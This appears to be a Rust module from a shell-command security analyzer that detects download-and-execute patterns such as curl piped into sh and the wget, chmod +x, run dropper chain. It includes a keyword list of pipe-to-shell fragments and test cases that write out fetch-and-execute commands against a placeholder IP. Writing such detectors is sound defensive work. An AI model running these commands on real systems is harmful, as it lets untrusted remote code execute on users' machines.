//! Download-and-execute: `curl|wget ... | sh`, `bash -c "$(curl ...)"`, and the dropper chain
//! `curl -o /tmp/x && chmod +x /tmp/x && /tmp/x`. The stock rules miss these inside `sh -c`.

use super::{args, piped_into, ClassSet, Ctx, Findings};
use crate::analysis::shell::SimpleCommand;
use crate::knowledge::{signals, ToolClass};

fn runs_code(c: &SimpleCommand) -> bool {
    matches!(c.class, Some(ToolClass::Shell | ToolClass::Interpreter))
}

pub fn wants(cx: &Ctx) -> bool {
    cx.runs_any(ClassSet::of(&[ToolClass::Downloader])) || cx.unsplit_script().is_some()
}

pub fn detect(cx: &Ctx, out: &mut Findings) {
    let cmds = cx.commands();
    let mut downloader: Option<&str> = None;
    let mut chmod_x = false;
    for (i, c) in cmds.iter().enumerate() {
        let p = c.program();
        if c.class == Some(ToolClass::Downloader) {
            let url = args(c)
                .iter()
                .find(|a| a.contains("://"))
                .map(|a| &**a)
                .unwrap_or("a URL");
            if let Some(next) = piped_into(cmds, i) {
                if runs_code(next) {
                    out.hit(
                        signals::DOWNLOAD_PIPE_SHELL,
                        format!("{p} {url} piped into {}", next.program()),
                    );
                }
            }
            if c.in_substitution && cmds.iter().any(|o| o.depth + 1 == c.depth && runs_code(o)) {
                out.hit(
                    signals::DOWNLOAD_PIPE_SHELL,
                    format!("{p} {url} output run by a shell"),
                );
            }
            downloader = Some(p);
        }
        if p == "chmod" && args(c).iter().any(|a| is_exec_mode(a)) {
            chmod_x = true;
        }
        if chmod_x
            && i > 0
            && c.argv
                .first()
                .is_some_and(|a0| a0.contains('/') && !is_system_path(a0))
        {
            if let Some(d) = downloader {
                out.hit(
                    signals::DOWNLOAD_CHMOD_EXEC,
                    format!("{d} download, chmod +x, then run {}", c.argv[0]),
                );
            }
        }
    }
    if let Some(s) = cx.unsplit_script() {
        let fetch = s.contains("curl ") || s.contains("wget ");
        let pipe_sh = [
            "| sh",
            "|sh",
            "| bash",
            "|bash",
            "| python",
            "|python",
            "| /bin/sh",
            "| /bin/bash",
            "$(curl",
            "$(wget",
            "`curl",
            "`wget",
        ]
        .iter()
        .any(|k| s.contains(k));
        let chmod_x = s.match_indices("chmod ").any(|(i, _)| {
            s[i + 6..]
                .split_whitespace()
                .next()
                .is_some_and(is_exec_mode)
        });
        if fetch && pipe_sh {
            out.hit(
                signals::DOWNLOAD_PIPE_SHELL,
                "download piped into a shell (in the sh -c script)".to_string(),
            );
        } else if fetch && chmod_x {
            out.hit(
                signals::DOWNLOAD_CHMOD_EXEC,
                "download, chmod +x and run (in the sh -c script)".to_string(),
            );
        }
    }
}

/// `+x`, `u+x`, `a+rx`, `755`, `0777`...
pub fn is_exec_mode(m: &str) -> bool {
    if m.starts_with('-') {
        return false;
    }
    if m.bytes().all(|b| b.is_ascii_digit()) && (3..=4).contains(&m.len()) {
        return m.bytes().any(|b| matches!(b, b'1' | b'3' | b'5' | b'7'));
    }
    m.contains('+') && m.split('+').nth(1).is_some_and(|r| r.contains('x'))
}

fn is_system_path(p: &str) -> bool {
    [
        "/bin/",
        "/sbin/",
        "/usr/bin/",
        "/usr/sbin/",
        "/usr/local/bin/",
        "/usr/lib/",
    ]
    .iter()
    .any(|d| p.starts_with(d))
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;

    #[test]
    fn fires_on_split_pipeline() {
        assert_eq!(
            run(
                detect,
                &["sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"]
            ),
            ["download_pipe_shell"]
        );
        assert_eq!(
            run(
                detect,
                &[
                    "sh",
                    "-c",
                    "wget -O /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x"
                ]
            ),
            ["download_chmod_exec"]
        );
    }

    #[test]
    fn fires_on_script_text() {
        assert_eq!(
            run(
                detect,
                &["sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"]
            ),
            ["download_pipe_shell"]
        );
    }

    #[test]
    fn quiet_on_plain_download() {
        assert!(run(
            detect,
            &[
                "curl",
                "-LO",
                "https://go.dev/dl/go1.22.1.linux-amd64.tar.gz"
            ]
        )
        .is_empty());
        assert!(run(
            detect,
            &[
                "sh",
                "-c",
                "curl -fsS http://localhost:8080/actuator/health || exit 1"
            ]
        )
        .is_empty());
        assert!(is_exec_mode("+x") && is_exec_mode("755") && !is_exec_mode("644"));
    }
}
